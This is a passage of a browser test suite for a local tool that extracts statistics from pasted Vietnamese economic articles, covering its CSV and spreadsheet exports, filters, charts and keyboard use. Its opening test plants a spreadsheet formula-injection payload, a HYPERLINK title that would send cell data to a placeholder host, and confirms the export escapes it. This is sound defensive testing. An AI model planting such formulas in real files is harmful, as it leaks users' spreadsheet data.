  const title = '=HYPERLINK("http://x.example/?d="&A1,"Xuất khẩu Hà Nam tháng 4/2024")';
  await page.setInputFiles('#files', [{ name: '=cmd.txt', mimeType: 'text/plain',
    buffer: Buffer.from(`${title}\n\nKim ngạch xuất khẩu của tỉnh Hà Nam tháng 4/2024 đạt 650 triệu USD, giảm 3,2% so với cùng kỳ.\n`) }]);
  await page.waitForFunction(n => document.getElementById('count').textContent === `(${n})`, before + 1);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
  const file = path.join(shots, 'facts.csv');
  await download.saveAs(file);
  const [header, ...rows] = parseCSV(fs.readFileSync(file, 'utf8').replace(/^\ufeff/, ''));
  const col = name => header.indexOf(name);
  const ours = rows.filter(r => r[col('file')].includes('cmd.txt'));
  assert.strictEqual(ours.length, 2, JSON.stringify(ours));
  for (const r of ours) {
    assert.strictEqual(r[col('file')], "'=cmd.txt");
    assert.strictEqual(r[col('title')], `'${title}`);
  }
  assert.deepStrictEqual(ours.map(r => r[col('value')]).sort(), ['-3.2', '650000000']);
  for (const r of rows) {
    for (const [k, v] of r.entries()) {
      if (header[k] !== 'value') assert.doesNotMatch(v, /^[=+\-@\t\r]/, `${header[k]}: ${v}`);
    }
  }
});

// The spreadsheet export opens with its values as numbers and its units in
// a column of their own (read back with ExcelJS, as a spreadsheet would).
test('the .xlsx export: numbers as numbers, units apart, a sheet per view', async () => {
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export-xlsx')]);
  const file = path.join(shots, 'chiso.xlsx');
  await download.saveAs(file);
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  assert.deepStrictEqual(wb.worksheets.map(w => w.name), ['Số liệu', 'Biểu đồ', 'Bài']);
  const sheet = wb.getWorksheet('Số liệu');
  const head = sheet.getRow(1).values.slice(1);
  assert.strictEqual(head[7], 'Giá trị');
  let iip = null, n = 0;
  sheet.eachRow((row, k) => {
    if (k === 1) return;
    n++;
    const v = row.getCell(8).value;
    assert.strictEqual(typeof v, 'number', `row ${k}: ${JSON.stringify(row.values)}`);
    if (row.getCell(1).value === 'Chỉ số SXCN (IIP)' && row.getCell(5).value === 'tháng 1/2024' && v === 18.3) iip = row;
  });
  assert.ok(n > 20, `${n} rows`);
  assert.ok(iip && iip.getCell(9).value === '%' && iip.getCell(7).value === 'so với cùng kỳ' && iip.getCell(14).value === '2024-01', JSON.stringify(iip?.values));
  // a title that looks like a formula stays text
  const titles = [];
  wb.getWorksheet('Bài').eachRow(row => titles.push(row.getCell(1)));
  assert.ok(titles.some(c => typeof c.value === 'string' && c.value.startsWith('=HYPERLINK')), 'the formula-looking title is text');
});

// A paste far longer than any article (a folder's worth at once) is read in
// parts at paragraph breaks, with the button off until it is done.
test('a paste longer than any article is read in parts', async () => {
  const before = Number((await count()).slice(1, -1));
  const text = fs.readFileSync(seeds[1], 'utf8');
  await page.fill('#paste', text.repeat(Math.ceil((400 << 10) / text.length)));
  await page.click('#analyze');
  await page.waitForFunction(() => /Đã thêm \d+ bài/.test(document.getElementById('status').textContent), null, { timeout: 60000 });
  assert.match(await page.textContent('#status'), /Đã thêm [3-9] bài/);
  await page.waitForFunction(n => Number(document.getElementById('count').textContent.slice(1, -1)) >= n + 3, before);
  assert.strictEqual(await page.$eval('#analyze', b => b.disabled), false);
  assert.strictEqual(await page.inputValue('#paste'), '');
});

// What a reader of the table meets: periods in words and in time order, a
// province in the filter meaning the figure's region, estimates marked, the
// export writing what the filters keep, a chart's axis with the months no
// article gave, and the reader opened from a row beside the page, closed
// with Escape back to that row.
test('the table in words: periods, estimates, filtered export, a reader that comes back', async () => {
  await page.fill('#fact-filter', '');
  await page.fill('#paste', 'Lạng Sơn: sản xuất công nghiệp 4 tháng năm 2024\n\n' +
    'Chỉ số sản xuất công nghiệp (IIP) của tỉnh Lạng Sơn tháng 1/2024 tăng 3,1% so với cùng kỳ năm trước.\n\n' +
    'Tháng 4/2024, IIP của tỉnh ước tăng 6,4% so với cùng kỳ. Tính chung 4 tháng đầu năm, IIP tăng 4,8% so với cùng kỳ năm trước.\n');
  await page.click('#analyze');
  await page.waitForFunction(() => [...document.querySelectorAll('#articles a')].some(a => a.textContent === 'Lạng Sơn: sản xuất công nghiệp 4 tháng năm 2024'));
  await page.fill('#fact-filter', 'lang son iip');
  await page.click('#facts th:nth-child(4)'); // period, in time
  await page.waitForFunction(() => document.querySelector('#facts th:nth-child(4)').getAttribute('aria-sort') === 'ascending');
  let facts = await rows();
  assert.deepStrictEqual(facts.map(r => [r[3], r[6]]), [['tháng 1/2024', '3,1%'], ['tháng 4/2024', '6,4%'], ['4 tháng 2024', '4,8%']]);
  // the estimate says so beside its value (waited for: a redraw the import
  // scheduled may replace the cells under a first reading)
  const estimateMarks = () => page.$$eval('#facts tbody td:nth-child(7)', tds => tds.map(td => getComputedStyle(td, '::after').content));
  await page.waitForFunction(want => [...document.querySelectorAll('#facts tbody td:nth-child(7)')]
    .map(td => getComputedStyle(td, '::after').content).join('|') === want, 'none|" (ước)"|none', { timeout: 10000 }).catch(() => {});
  assert.deepStrictEqual(await estimateMarks(), ['none', '" (ước)"', 'none']);
  await page.fill('#fact-filter', 'lang son 4 thang');
  facts = await rows();
  assert.deepStrictEqual(facts.map(r => r[3]), ['4 tháng 2024']);
  // the export writes the rows the filter keeps, and says so
  await page.fill('#fact-filter', 'lang son iip');
  await rows();
  const [csvDownload] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
  const csvFile = path.join(shots, 'filtered.csv');
  await csvDownload.saveAs(csvFile);
  const [head, ...lines] = parseCSV(fs.readFileSync(csvFile, 'utf8').replace(/^\ufeff/, ''));
  const got = lines.filter(r => r.length > 1);
  assert.deepStrictEqual(got.map(r => [r[head.indexOf('region')], r[head.indexOf('period')]]),
    [['Lạng Sơn', '2024-01'], ['Lạng Sơn', '2024-04'], ['Lạng Sơn', '2024-01..2024-04']]);
  assert.match(await page.textContent('#status'), /Đã xuất 3 số liệu đang lọc/);
  // the chart of the province's months: March and February are on the axis, empty
  await chartOf({ indicator: 'iip', sector: 'all', kind: 'change', basis: 'yoy', grain: 'month', region: 'Lạng Sơn' });
  const chart = await page.evaluate(() => { const c = Chart.getChart(document.getElementById('chart-time')); return { periods: c.$chiso.periods, data: c.data.datasets[0].data }; });
  const at = p => chart.data[chart.periods.indexOf(p)];
  assert.deepStrictEqual(['2024-01', '2024-02', '2024-03', '2024-04'].map(at), [3.1, null, null, 6.4], JSON.stringify(chart));
  await page.selectOption('#chart-region', '');
  // with the 2025 merge on, the chart draws a figure where the table shows it
  await page.fill('#paste', 'IIP Bắc Giang tháng 4/2024\n\nChỉ số sản xuất công nghiệp (IIP) tỉnh Bắc Giang tháng 4/2024 tăng 20,1% so với cùng kỳ năm trước.\n');
  await page.click('#analyze');
  await page.waitForFunction(() => [...document.querySelectorAll('#articles a')].some(a => a.textContent === 'IIP Bắc Giang tháng 4/2024'));
  const regionsOffered = () => page.$$eval('#chart-region option', os => os.map(o => o.value));
  await page.waitForFunction(() => [...document.querySelectorAll('#chart-region option')].some(o => o.value === 'Bắc Giang')); // the charts are drawn after the list
  await page.check('#merge-2025');
  await page.waitForFunction(() => [...document.querySelectorAll('#chart-region option')].some(o => o.value === 'Bắc Ninh ← Bắc Giang'));
  assert.ok(!(await regionsOffered()).includes('Bắc Giang'));
  await page.uncheck('#merge-2025');
  await page.waitForFunction(() => [...document.querySelectorAll('#chart-region option')].some(o => o.value === 'Bắc Giang'));
  // the reader opens beside the table and comes back to the row that opened it
  await rows();
  await page.locator('#facts tbody tr:first-child td:nth-child(8) a').scrollIntoViewIfNeeded();
  const y = await page.evaluate(() => window.scrollY);
  const opened = await page.$eval('#facts tbody tr:first-child td:nth-child(8) a', a => [a.dataset.article, a.dataset.fact]);
  await page.click('#facts tbody tr:first-child td:nth-child(8) a');
  await page.waitForSelector('#reader mark.fact.focus');
  assert.ok(Math.abs(await page.evaluate(() => window.scrollY) - y) < 40, 'the page stayed where it was');
  assert.ok(await page.isVisible('#reader-close'));
  await page.keyboard.press('Escape'); // the figure's detail
  await page.keyboard.press('Escape'); // the reader
  assert.ok(await page.$eval('#reader', r => r.hidden));
  await page.waitForSelector('#facts[data-state="done"]');
  assert.deepStrictEqual(await page.evaluate(() => [document.activeElement?.dataset.article, document.activeElement?.dataset.fact]), opened, 'the focus is back on the figure that opened the reader');
  await page.fill('#fact-filter', '');
});

// Several articles pasted at once, a line of dashes between them, are read
// as several: each its own title and province.
test('a paste of several articles split at --- lines', async () => {
  const before = Number((await count()).slice(1, -1));
  await page.fill('#paste', 'Xuất khẩu Cao Bằng tháng 3/2024\n\nKim ngạch xuất khẩu của tỉnh Cao Bằng tháng 3/2024 đạt 45 triệu USD.\n---\nXuất khẩu Hà Giang tháng 3/2024\n\nKim ngạch xuất khẩu của tỉnh Hà Giang tháng 3/2024 đạt 21 triệu USD.\n');
  await page.click('#analyze');
  await page.waitForFunction(n => Number(document.getElementById('count').textContent.slice(1, -1)) === n + 2, before);
  const titles = await page.$$eval('#articles li > a', as => as.map(a => a.textContent));
  assert.ok(titles.includes('Xuất khẩu Cao Bằng tháng 3/2024') && titles.includes('Xuất khẩu Hà Giang tháng 3/2024'), JSON.stringify(titles.slice(0, 4)));
  await page.fill('#fact-filter', 'ha giang');
  const facts = await rows();
  assert.deepStrictEqual(facts.map(r => [r[2], r[6]]), [['Hà Giang', '21 triệu USD']]);
  await page.fill('#fact-filter', '');
});

// Everything by keyboard alone: Tab to each control, Enter to act.
test('keyboard only: add, search, sort, open a figure, close it with Escape', async () => {
  const tabTo = async selector => {
    for (let k = 0; k < 400; k++) {
      if (await page.evaluate(s => document.activeElement?.matches(s), selector)) return;
      await page.keyboard.press('Tab');
    }
    assert.fail(`Tab never reached ${selector}`);
  };
  await page.evaluate(() => document.activeElement?.blur());
  await tabTo('#paste');
  await page.keyboard.insertText('Xuất khẩu Lạng Sơn tháng 5/2024\n\nKim ngạch xuất khẩu của tỉnh Lạng Sơn tháng 5/2024 đạt 120 triệu USD, tăng 9,5% so với cùng kỳ năm trước.\n');
  await tabTo('#analyze');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => [...document.querySelectorAll('#articles a')].some(a => a.textContent === 'Xuất khẩu Lạng Sơn tháng 5/2024'));
  await tabTo('#search');
  await page.keyboard.type('lang son');
  await page.waitForSelector('#results li');
  await tabTo('#facts thead th:nth-child(7)');
  await page.keyboard.press('Enter');
  await page.waitForFunction(() => document.querySelector('#facts thead th:nth-child(7)').getAttribute('aria-sort') === 'ascending');
  await tabTo('#results li a');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#reader mark.fact');
  await tabTo('#reader mark.fact');
  await page.keyboard.press('Enter');
  await page.waitForSelector('#fact-detail:not([hidden])');
  await page.keyboard.press('Escape');
  assert.ok(await page.$eval('#fact-detail', d => d.hidden));
  await page.fill('#search', '');
});

test('no request leaves the page', () => {
  const foreign = requests.filter(u => !u.startsWith(base) && !u.startsWith('blob:') && !u.startsWith('data:'));
  assert.deepStrictEqual(foreign, []);
  assert.deepStrictEqual(failed, []);
});
